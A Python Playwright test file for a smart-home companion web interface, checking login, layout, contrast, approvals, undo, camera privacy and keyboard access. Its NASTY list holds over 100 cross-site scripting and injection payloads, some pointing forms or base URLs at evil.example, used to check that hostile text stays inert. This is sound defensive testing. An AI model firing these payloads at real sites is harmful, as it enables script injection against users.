"""The page in real Chromium (issue 2, item 9; PAGE.md)."""

import asyncio
import re
from typing import Any, Literal

import httpx
import pytest
from playwright.async_api import expect

from companion.web.keys import Keys
from companion.web.texts import TEXT
from companion.words.ids import DeviceId
from companion.words.language import Bilingual, Language
from companion.words.observation import Change
from companion.words.said import Said
from companion.words.trust import TrustLabel
from tests.browser.conftest import Screen

pytestmark = [pytest.mark.real("browser"), pytest.mark.timeout(120)]
PATHS = (
    "/",
    "/log",
    "/log?kind=visits",
    "/log?kind=all",
    "/log/11",
    "/talk",
    "/routines",
    "/home",
    "/more",
    "/voice",
)
both_languages = pytest.mark.parametrize("language", ["ja", "en"], indirect=True)
both_sizes = pytest.mark.parametrize("size", ["phone", "desk"], indirect=True)

LAYOUT = """() => {
  const small = [], boxes = document.querySelectorAll("a, button, input:not([hidden]), summary");
  for (const it of boxes) {
    const r = it.getBoundingClientRect(), s = getComputedStyle(it);
    const inText = it.matches("p a, .text, .state a, .bubble") && !it.matches(".button, .two *");
    if (!r.width || s.visibility === "hidden" || it.matches(".skip") || inText) continue;
    if (it.type === "range" || it.type === "hidden") continue;
    if (r.height < 43.5 || r.width < 43.5) small.push(`${it.outerHTML.slice(0, 90)} ${r.height}`);
  }
  const tiny = [...document.querySelectorAll("body *")].filter((it) => it.childNodes.length &&
    [...it.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim()) &&
    it.getBoundingClientRect().width > 1 && !it.closest("svg") && !it.matches("code") &&
    parseFloat(getComputedStyle(it).fontSize) < 16).map((it) => it.outerHTML.slice(0, 80));
  const stop = document.querySelector(".stop").getBoundingClientRect();
  const top = document.elementFromPoint(stop.x + stop.width / 2, stop.y + stop.height / 2);
  return { small, tiny, wide: document.documentElement.scrollWidth - innerWidth,
    stopFree: !!top.closest(".stop"), stop: [stop.right, stop.bottom] };
}"""
CONTRAST = """() => {
  const part = (v) => v <= 10.02 ? v / 3294.6 : ((v / 255 + .055) / 1.055) ** 2.4;
  const lum = (c) => { const f = c.map(part);
    return .2126 * f[0] + .7152 * f[1] + .0722 * f[2]; };
  const rgba = (s) => (s.match(/[\\d.]+/g) || [0, 0, 0, 0]).map(Number);
  const behind = (it) => { for (let n = it; n; n = n.parentElement) {
    const c = rgba(getComputedStyle(n).backgroundColor);
    if (c.length < 4 || c[3] > .9) return c.slice(0, 3); } return [255, 255, 255]; };
  const poor = [];
  for (const it of document.querySelectorAll("main *, .bar *, .stop *, .asking *")) {
    if (![...it.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim())) continue;
    if (it.closest("svg, .hidden, [hidden], .shut")) continue;
    const a = lum(rgba(getComputedStyle(it).color).slice(0, 3)), b = lum(behind(it));
    const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < 4.5) poor.push(`${ratio.toFixed(2)} ${it.outerHTML.slice(0, 80)}`);
  }
  return poor;
}"""


@both_languages
async def test_who_is_logged_in_is_seen_and_ended(screen: Screen, language: str) -> None:
    """Issue 10, 8: on a phone; a wrong password is told in words, the other device is put out."""
    keys = Keys(screen.home.state_dir)
    keys.set_password("correct horse")
    await screen.open("/")
    assert "/login" in screen.page.url
    await screen.page.fill("input[name=password]", "wrong horse")
    await screen.page.click("button.primary")
    wrong = TEXT["password.wrong"].get(Language(language))
    await expect(screen.page.locator(".error")).to_have_text(wrong)
    headers = {"X-Companion-Token": keys.cli_token}
    async with httpx.AsyncClient(base_url=screen.base, headers=headers) as other:
        body = {"password": "correct horse"}
        await expect_logged_in(other, body)
        await screen.page.wait_for_timeout(1100)  # one try a second on this machine
        await screen.page.fill("input[name=password]", "correct horse")
        await screen.page.click("button.primary")
        await screen.page.wait_for_url(screen.base + "/")
        await screen.open("/more")
        await expect(screen.page.locator("#sessions li")).to_have_count(2)
        found: dict[str, Any] = await screen.page.evaluate(LAYOUT)
        assert (found["wide"] <= 0, found["small"], found["tiny"]) == (True, [], [])
        assert await screen.page.evaluate(CONTRAST) == []
        await screen.page.click("#sessions li button")
        await expect(screen.page.locator("#sessions li")).to_have_count(1)
        other.headers.pop("X-Companion-Token")
        assert (await other.get("/api/health")).status_code == 401


async def expect_logged_in(client: httpx.AsyncClient, body: dict[str, str]) -> None:
    """Log in as soon as the brake lets it."""
    async with asyncio.timeout(60):
        while (await client.post("/api/login", json=body)).status_code != 204:
            await asyncio.sleep(0.2)


@both_languages
@both_sizes
async def test_every_screen_is_in_shape(screen: Screen, size: str, language: str) -> None:
    """No sideways scrolling, 44 px targets, 16 px text, Stop free in the same corner, AA."""
    corners: set[tuple[float, ...]] = set()
    for path in PATHS:
        await screen.open(path)
        found: dict[str, Any] = await screen.page.evaluate(LAYOUT)
        assert found["wide"] <= 0, path
        assert found["small"] == [], path
        assert found["tiny"] == [], path
        assert found["stopFree"], path
        corners.add(tuple(found["stop"]))
        schemes: tuple[Literal["light", "dark"], ...] = ("light", "dark")
        for scheme in schemes:
            await screen.page.emulate_media(color_scheme=scheme)
            assert await screen.page.evaluate(CONTRAST) == [], (path, scheme)
    assert len(corners) == 1
    right, bottom = corners.pop()
    viewport = screen.page.viewport_size
    assert viewport is not None
    width, height = viewport["width"], viewport["height"]
    assert width - 40 < right <= width
    assert height - 40 < bottom <= height


async def test_a_new_line_slides_in_by_itself(screen: Screen) -> None:
    """B-103: what happens appears without a reload."""
    await screen.open("/log")
    await screen.watching()
    count = await screen.page.locator(".line").count()
    await screen.home.see("kitchen", Change.APPEARED)
    await expect(screen.page.locator(".line")).to_have_count(count + 1, timeout=3000)
    await expect(screen.page.locator(".line").first).to_contain_text("台所に人が来ました")


async def test_new_lines_wait_while_one_reads_further_down(screen: Screen) -> None:
    """PAGE.md, States: "3 件の新着", nothing jumps under the reader's eyes."""
    await screen.open("/log?kind=all")
    await screen.watching()
    await screen.page.evaluate("window.scrollTo(0, 600)")
    count = await screen.page.locator(".line").count()
    for _ in range(3):
        await screen.home.see("kitchen", Change.APPEARED)
    button = screen.page.locator("[data-fresh]")
    await expect(button).to_have_text("3 件の新着", timeout=3000)
    assert await screen.page.locator(".line").count() == count
    await button.click()
    await expect(screen.page.locator(".line")).to_have_count(count + 3)
    await expect(button).to_be_hidden()


@both_sizes
async def test_an_approval_is_answered_with_one_tap(screen: Screen, size: str) -> None:
    """C-046, C-047: two lines, two large buttons; after the answer, what happened."""
    await screen.open("/")
    card = screen.page.locator(".ask")
    await expect(card.locator(".summary")).to_have_text("リビングのエアコンを23度にする")
    await expect(card.locator(".impact")).to_be_visible()
    for button in await card.locator(".two button").all():
        box = await button.bounding_box()
        assert box is not None
        assert box["height"] >= 56
    await card.locator(".two button.yes").click()
    await expect(card).to_have_count(0, timeout=5000)
    assert [c.operation for c in screen.home.house.commands][-1] == "set_temperature"
    line = screen.page.locator(".lately .line").first
    await expect(line).to_contain_text("リビングのエアコンを23°Cにしました", timeout=5000)
    await expect(line.locator(".undo")).to_be_visible()


@both_sizes
async def test_questions_hide_neither_each_other_nor_the_talk_box(
    screen: Screen, size: str
) -> None:
    """B14: the newest is in front, all are counted and listed with what each would do, and the box
    that one types in is free. Off the first page one line tells of them, and opens the card."""
    book = screen.home.store.approvals
    (first,) = await book.pending()
    for ja, en in (("鍵を開ける", "unlock the door"), ("窓を閉める", "close the window")):
        both, touches = Bilingual(ja, en), Bilingual("影響: 家", "Touches the home")
        await book.ask(first.decision_event_id, both, touches, 2)
    await screen.open("/talk")
    card, line = screen.page.locator(".ask"), screen.page.locator(".asked-line > summary")
    await expect(line).to_contain_text("窓を閉める+2")
    await expect(card).to_be_hidden()
    box = await line.bounding_box()
    assert box is not None
    assert 44 <= box["height"] <= 56  # one line: the page below it stays readable
    await line.click()
    await expect(card.locator(".summary").first).to_have_text("窓を閉める")
    more = card.locator(".others > summary")
    await expect(more).to_contain_text("2")
    covered = await screen.page.evaluate(
        """() => {
          const b = document.querySelector(".saybar [name=text]").getBoundingClientRect();
          const at = document.elementFromPoint(b.x + b.width / 2, b.y + b.height / 2);
          return at.name;
        }"""
    )
    assert covered == "text"
    await screen.page.screenshot(path=f"/tmp/z-q-{size}.png")
    await more.click()
    await expect(card.locator(".others .summary").first).to_have_text("鍵を開ける")
    await card.get_by_role("button", name="いいえ: 鍵を開ける").click()
    await expect(card.locator(".others .summary")).to_have_count(1, timeout=5000)
    left = [q.summary.ja for q in await book.pending()]
    assert left == ["リビングのエアコンを23度にする", "窓を閉める"]


async def test_undo_from_the_line(screen: Screen) -> None:
    """DESIGN 1.5: one tap."""
    await screen.open("/log")
    (question,) = await screen.home.store.approvals.pending()
    await screen.home.answer(question.id, False, "web")
    line = screen.page.locator(".kind-action", has_text="玄関の明かりをつけました")
    await line.locator(".undo").click()
    await expect(line).to_contain_text("元に戻しました", timeout=5000)
    state = screen.home.house.state(DeviceId("light.hall"))
    assert state is not None
    assert state.value == "off"


async def test_a_device_is_switched_and_seen(screen: Screen) -> None:
    """Home: the control asks, the state that shows is the one reported."""
    await screen.open("/home")
    device = screen.page.locator('[data-live="device-switch.coffee_maker"]')
    await device.get_by_role("button", name="つける").click()
    await expect(device).to_have_class("device lit", timeout=5000)
    await expect(device.locator("[aria-pressed=true]")).to_have_text("つける")
    lost = screen.page.locator('[data-live="device-fan.bedroom"]')
    await expect(lost).to_contain_text("応答なし")
    assert await lost.locator("button").count() == 0


async def test_the_camera_and_the_shut_eye(screen: Screen) -> None:
    """T18: privacy shows a shut eye and asks for no more pictures."""
    home = screen.home
    await screen.open("/")
    said = re.compile("^(person|人) 94%")
    await expect(screen.page.locator(".found")).to_have_text(said, timeout=5000)
    await screen.page.locator(".switch").click()
    await expect(screen.page.locator(".switch")).to_have_attribute("aria-checked", "true")
    await expect(screen.page.locator(".shut")).to_be_visible(timeout=5000)
    assert home.private
    shown = home.viewfinder.shown
    asked: list[str] = []
    screen.page.on("request", lambda request: asked.append(request.url))
    await asyncio.sleep(2.5)
    assert home.viewfinder.shown == shown
    assert [url for url in asked if "/api/camera/" in url] == []


async def test_stop_is_one_tap_even_under_a_question(screen: Screen) -> None:
    await screen.open("/home")
    await screen.page.get_by_role("button", name="停止", exact=True).click()
    await expect(screen.page.locator(".toast")).to_have_text("止めました")
    assert screen.home.stops == 1


async def test_the_keyboard_reaches_everything_visibly(screen: Screen) -> None:
    """Every control has a name and a visible focus."""
    await screen.open("/")
    names = set()
    for _ in range(24):
        await screen.page.keyboard.press("Tab")
        focus: dict[str, Any] = await screen.page.evaluate(
            """() => { const it = document.activeElement, s = getComputedStyle(it);
            return { tag: it.tagName, outline: parseFloat(s.outlineWidth), style: s.outlineStyle,
              name: it.getAttribute("aria-label") || it.textContent.trim() || it.placeholder }; }"""
        )
        if focus["tag"] == "BODY":
            break
        assert focus["outline"] >= 2, focus
        assert focus["style"] != "none", focus
        assert focus["name"], focus
        names.add(focus["name"])
    assert "停止" in names
    assert "送る" in names


NASTY = [
    f"{before}{attack}"
    for before in ("", '">', "'>", "</title>", "-->", "&quot;>", "</script>", "\u202e", "`}")
    for attack in (
        "<script>window.owned=1</script>",
        "<img src=x onerror=window.owned=1>",
        "<svg onload=window.owned=1>",
        "<a href=javascript:window.owned=1>x</a>",
        "<iframe srcdoc='<script>parent.owned=1</script>'>",
        "<style>*{display:none}</style>",
        "<form action=//evil.example><input name=text>",
        "{{constructor.constructor('window.owned=1')()}}",
        "${window.owned=1}",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
    )
]


async def test_hostile_text_is_inert(screen: Screen) -> None:
    """T10: over 100 strings in every field: no script runs, no CSP report, no foreign element."""
    home = screen.home
    assert len(NASTY) >= 100
    for i, text in enumerate(NASTY):
        await home.journal.heard(Said(text, "web"), TrustLabel.GUEST)
        if i % 6 == 0:
            await home.see(text, Change.APPEARED)
    devices = list(home.house._devices.values())
    for found, text in zip(devices, NASTY, strict=False):
        object.__setattr__(found.device, "name", Bilingual(text, text))
    for path in ("/log?kind=all", "/talk", "/home", "/", "/more", "/log/40"):
        await screen.open(path)
        await screen.page.wait_for_timeout(150)
        assert await screen.page.evaluate("window.owned") is None
        foreign = "main :is(script, iframe, style, img, math, base, meta, form[action])"
        assert await screen.page.locator(foreign).count() == 0
    await screen.watching()
    for text in NASTY[:24]:
        await home.journal.heard(Said(text, "web"), TrustLabel.GUEST)
    await screen.page.wait_for_timeout(600)
    assert await screen.page.evaluate("window.owned") is None


@both_languages
async def test_a_sentence_is_said_and_shown(screen: Screen, language: str) -> None:
    """The say box reaches the desk, with the room this screen was said to stand in (issue 4.3);
    the conversation shows only user and persona (T-47)."""
    await screen.open("/talk")
    await screen.page.locator("select[data-room]").select_option("kitchen")
    await screen.open("/talk")
    await expect(screen.page.locator("select[data-room]")).to_have_value("kitchen")
    await screen.page.locator("#say").fill("明かりをつけて <b>")
    await screen.page.keyboard.press("Enter")
    await expect(screen.page.locator(".own").last).to_contain_text(
        "明かりをつけて <b>", timeout=5000
    )
    assert (screen.home.said, screen.home.places) == (["明かりをつけて <b>"], ["kitchen"])
    assert await screen.page.locator("#say").input_value() == ""


async def test_the_password_is_set_and_asked_for(screen: Screen) -> None:
    """T8: set on this machine, then the door stands before every page."""
    await screen.open("/more")
    await screen.page.locator('input[name="new"]').fill("correct horse")
    await screen.page.locator('#password button[type="submit"]').click()
    await expect(screen.page.locator('input[name="old"]')).to_be_visible(timeout=5000)
    await screen.page.context.clear_cookies()
    await screen.open("/log")
    assert screen.page.url.endswith("/login?next=/log")
    await screen.page.locator('input[name="password"]').fill("wrong horse")
    await screen.page.keyboard.press("Enter")
    await expect(screen.page.locator(".error")).to_have_text("パスワードが違います", timeout=5000)
    await asyncio.sleep(1.1)
    await screen.page.locator('input[name="password"]').fill("correct horse")
    await screen.page.keyboard.press("Enter")
    await expect(screen.page.locator(".stop")).to_be_visible(timeout=5000)


@both_languages
async def test_b18_a_visit_keeps_its_picture_while_it_goes_on(
    screen: Screen, language: str
) -> None:
    """The live picture is drawn, stays when the group changes, and ends with the visit."""
    home = screen.home
    await home.see("hall", Change.APPEARED)
    await screen.open("/log?kind=visits")
    await screen.watching()
    figure = screen.page.locator("[data-camera=hall]")
    await expect(figure).to_have_count(1)
    await figure.scroll_into_view_if_needed()
    await expect(figure.locator(".found")).to_contain_text("94%")
    await figure.evaluate("it => { it.firstElementChild.same = true; }")
    await home.journal.heard(Said("Good evening", "web", place="hall"), TrustLabel.OWNER)
    await expect(screen.page.locator(".visits")).to_contain_text("Good evening")
    assert await figure.evaluate("it => it.firstElementChild.same === true")
    found: dict[str, Any] = await screen.page.evaluate(LAYOUT)
    assert (found["wide"] <= 0, found["small"], found["tiny"]) == (True, [], [])
    await home.see("hall", Change.GONE)
    await expect(figure).to_have_count(0)
